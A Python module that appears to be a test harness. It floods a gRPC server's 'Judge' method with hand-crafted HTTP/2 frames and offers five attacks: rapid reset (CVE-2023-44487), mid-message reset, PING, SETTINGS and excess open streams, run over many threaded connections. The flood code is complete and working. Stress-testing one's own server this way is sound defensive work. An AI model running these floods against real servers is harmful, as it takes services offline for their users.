"""A process of callers who speak HTTP/2 to do harm. It imports nothing that would make it slow to start."""

from __future__ import annotations

import socket
import struct
import threading
from contextlib import suppress
from typing import Any

ATTACKERS = 4
BACK_S = 1.0
"""After which one that was sent away is there again, in seconds."""
JUDGE = "/memecourt.v1.Court/Judge"

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
END_HEADERS, ACK = 4, 1
MAX_CONCURRENT_STREAMS = 3
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, body=b""):
    """RFC 9113, section 4.1."""
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body


def word(text):
    """A string of HPACK (RFC 7541, section 5.2), of less than 127 bytes, as it is."""
    return bytes([len(text)]) + text.encode()


CALL = (
    b"\x83\x86"  # POST, http
    + b"\x04" + word(JUDGE)
    + b"\x01" + word("localhost")
    + b"\x00" + word("content-type") + word("application/grpc")
    + b"\x00" + word("te") + word("trailers")
)  # fmt: skip


def reset(number):
    """A call that is taken back in the same breath (CVE-2023-44487)."""
    stream = 2 * number + 1
    return frame(HEADERS, END_HEADERS, stream, CALL) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def reset_in_mid_message(number):
    """As that, with the beginning of a message that is said to be large."""
    stream = 2 * number + 1
    message = b"\0" + struct.pack(">I", 16_000_000) + bytes(64)
    body = frame(DATA, 0, stream, message)
    return frame(HEADERS, END_HEADERS, stream, CALL) + body + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def ping(number):
    return frame(PING, 0, 0, struct.pack(">Q", number))


def settings(number):
    return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535 + number % 2))


def headers_only(number):
    """Calls that are left open, more than may be at once."""
    return frame(HEADERS, END_HEADERS, 2 * number + 1, CALL)


FLOODS = {each.__name__: each for each in (reset, reset_in_mid_message, ping, settings, headers_only)}


class Attacker(threading.Thread):
    """Sends frames of a kind as fast as they are taken, over as many connections as that needs, until told to stop."""

    def __init__(self, address, attack):
        super().__init__(daemon=True)
        host, _, port = address.rpartition(":")
        self.place = host, int(port)
        self.frames = attack
        self.sent = self.connections = 0
        self.over = threading.Event()

    def run(self):
        while not self.over.is_set():
            with suppress(OSError), socket.create_connection(self.place, timeout=10) as connection:
                self.connections += 1
                hearing = threading.Thread(target=hear_out, args=(connection,), daemon=True)
                hearing.start()
                connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
                for first in range(0, 100_000, 100):
                    if self.over.is_set():
                        break
                    connection.sendall(b"".join(self.frames(number) for number in range(first, first + 100)))
                    self.sent += 100
            self.over.wait(BACK_S)


def hear_out(connection):
    with suppress(OSError):
        while connection.recv(65536):
            pass


def flood(address: str, kind: str, least: int, pipe: Any) -> None:
    """Says when it has begun; attacks until it is told to end and each has sent so many more; says how many were."""
    attackers = [Attacker(address, FLOODS[kind]) for _ in range(ATTACKERS)]
    for attacker in attackers:
        attacker.start()
    while not all(attacker.sent for attacker in attackers):
        attackers[0].over.wait(0.01)
    begun = [attacker.sent for attacker in attackers]
    pipe.send(begun)
    pipe.recv()
    while not all(attacker.sent >= early + least for attacker, early in zip(attackers, begun, strict=True)):
        attackers[0].over.wait(0.01)
    for attacker in attackers:
        attacker.over.set()
    for attacker in attackers:
        attacker.join(10)
    pipe.send([attacker.sent for attacker in attackers])
